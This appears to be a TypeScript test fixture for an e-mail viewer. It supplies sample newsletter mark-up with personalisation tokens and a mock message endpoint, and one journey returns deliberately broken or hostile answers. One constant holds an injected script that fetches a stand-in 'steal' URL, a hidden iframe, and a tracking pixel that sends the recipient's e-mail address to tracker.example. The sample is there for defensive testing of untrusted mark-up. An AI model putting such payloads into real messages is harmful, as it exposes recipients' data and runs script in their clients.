/**
 * The authored e-mails of Acme: mark-up with personalisation tokens, as authors leave it. Some are hostile or broken on
 * purpose, because a viewer has to show foreign mark-up without trusting it.
 */
import type { MessagePlace } from "./sampleJourneys";

/** Content of one message as the message endpoint sends it. */
export type MessageContent = Readonly<Record<string, unknown>>;

/** What the endpoint does with one message: content, refusal, or a 200 with nothing in it. */
export type MessageAnswer = { readonly content: MessageContent } | { readonly status: 403 | 200 };

const HERO = "https://images.acme.example/newsletter/hero.jpg";

/** Inner mark-up of an e-mail about `topic`. */
export function emailBody(topic: string, extra = ""): string {
  return `<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="background:#f4f1ec;font-family:Helvetica,Arial,sans-serif">
<tr><td align="center" style="padding:24px"><table role="presentation" width="600" style="background:#ffffff;border-radius:8px">
<tr><td style="padding:24px 32px"><img src="https://images.acme.example/logo.png" width="120" alt="Acme"></td></tr>
<tr><td><img src="${HERO}" width="600" alt="${topic}" style="display:block"></td></tr>
<tr><td style="padding:32px;color:#2b2b2b"><h1 style="font-size:26px;margin:0 0 16px">${topic}</h1>
<p>Hello {{profile.person.name.firstName}},</p>
<p>thank you for being with us since {{profile._acme.customer.since}}.</p>
{%#if profile._acme.loyalty.tier = "gold"%}<p><strong>As a gold member you go first.</strong></p>{%else%}<p>Collect points with every order.</p>{%/if%}
{%#each profile._acme.cart.items as |item|%}<p>{{item.name}}: {{item.price}} EUR</p>{%/each%}
<p><a href="https://www.acme.example/{{profile.preferredLanguage}}/home" style="background:#1f5f4a;color:#fff;padding:12px 28px;border-radius:4px;text-decoration:none">To the shop</a></p>${extra}
</td></tr>
<tr><td style="padding:24px 32px;font-size:12px;color:#777">{{fragment id='ajo:footer' name='Footer'}}<br><a href="{{unsubscribeLink}}">Unsubscribe</a></td></tr>
</table></td></tr></table>`;
}

/** Steps of the journey "Five mails": each is a different kind of trouble. */
const TROUBLE: Readonly<Record<string, (place: MessagePlace) => MessageAnswer>> = {
  "Mail one": (place) => wrap(place, emailBody(place.name, HOSTILE)),
  "Mail two": (place) =>
    wrap(place, emailBody(place.name, "<p>Terms and conditions apply.</p>".repeat(9_000))),
  "Mail three": (place) => ({
    content: {
      variants: [{ variantId: place.messageId, name: place.name, html: { body: emailBody(place.name) } }],
    },
  }),
  "Mail four": () => ({ status: 403 }),
  "Mail five": () => ({ status: 200 }),
};

const HOSTILE = `<script>document.title = "owned"; fetch("https://tracker.example/steal")</script>
<iframe src="https://tracker.example/frame" width="1" height="1"></iframe>
<img src="https://tracker.example/pixel.gif?u={{profile.personalEmail.address}}" width="1" height="1" alt="" onload="alert(1)">`;

/** Returns what the message endpoint answers for one message. */
export function answerMessage(place: MessagePlace): MessageAnswer {
  const trouble = place.journeyName === "Five mails" ? TROUBLE[place.name] : undefined;
  if (trouble !== undefined) return trouble(place);
  if (place.channel === "push") return pushContent(place);
  return place.channel === "email" ? wrap(place, emailBody(place.name)) : pushContent(place);
}

function wrap(place: MessagePlace, body: string): MessageAnswer {
  const subject = `{{profile.person.name.firstName}}, ${place.name.charAt(0).toLowerCase()}${place.name.slice(1)}`;
  const variant = {
    variantId: place.messageId,
    name: place.name,
    subject,
    html: { body, description: "", syncFromHtml: false },
    text: {
      body: `Hello {{profile.person.name.firstName}},\n\n${place.name}\n\nhttps://www.acme.example`,
      syncFromHtml: true,
    },
    editorContext: { layoutType: "newsletter" },
    headers: [],
  };
  return { content: { variants: [variant] } };
}

function pushContent(place: MessagePlace): MessageAnswer {
  const body = "{{profile.person.name.firstName}}, have a look in the app.";
  return {
    content: {
      variants: [{ variantId: place.messageId, name: place.name, title: place.name, body, message: body }],
    },
  };
}

/** Replaces the simple tokens of `template` by values; tokens without a value become empty, as in the real rendering. */
export function renderTokens(template: string, attributes: Readonly<Record<string, unknown>>): string {
  return template
    .replaceAll(/\{%#if[^%]*%\}(.*?)(?:\{%else%\}.*?)?\{%\/if%\}/gs, "$1")
    .replaceAll(/\{%#each[^%]*%\}.*?\{%\/each%\}/gs, "")
    .replaceAll(/\{\{profile\.([\w.]+)\}\}/g, (_match, path: string) => readText(attributes, path))
    .replaceAll(/\{\{[^}]*\}\}/g, "");
}

function readText(attributes: Readonly<Record<string, unknown>>, path: string): string {
  let value: unknown = attributes;
  for (const step of path.split(".")) {
    value =
      typeof value === "object" && value !== null
        ? (value as Readonly<Record<string, unknown>>)[step]
        : undefined;
  }
  return value === undefined || value === null || typeof value === "object" ? "" : String(value);
}
